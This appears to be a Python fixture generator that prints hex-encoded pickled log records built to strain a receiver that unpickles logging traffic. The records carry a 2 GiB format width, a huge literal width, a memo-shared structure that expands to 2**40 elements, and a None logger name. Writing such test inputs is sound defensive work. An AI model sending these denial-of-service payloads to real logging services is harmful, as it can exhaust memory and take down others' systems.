"""Prints hostile record pickles, one per line as 'name hex', made by CPython's own pickler."""
import logging
import pickle
import sys


def record_dict(**attributes):
    record = logging.makeLogRecord(dict(name="hostile", levelno=logging.WARNING, levelname="WARNING", **attributes))
    return dict(record.__dict__)


def dag(levels, leaf):
    node = leaf
    for _ in range(levels):
        node = [node, node]
    return node


payloads = {
    # One datagram that asked the formatter for a 2 GiB width.
    "star_width": record_dict(msg="%*d", args=(2147483647, 1)),
    "literal_width": record_dict(msg="%999999999d", args=(5,)),
    # Memo references: a few hundred bytes that expand to 2**40 leaves.
    "memo_dag": record_dict(msg="%s", args=(dag(40, "amplified"),)),
    # A received record whose name is None: CPython prints None.
    "name_none": record_dict(msg="from nowhere"),
}
payloads["name_none"]["name"] = None

for name, value in payloads.items():
    sys.stdout.write(name + " " + pickle.dumps(value, protocol=2).hex() + "\n")
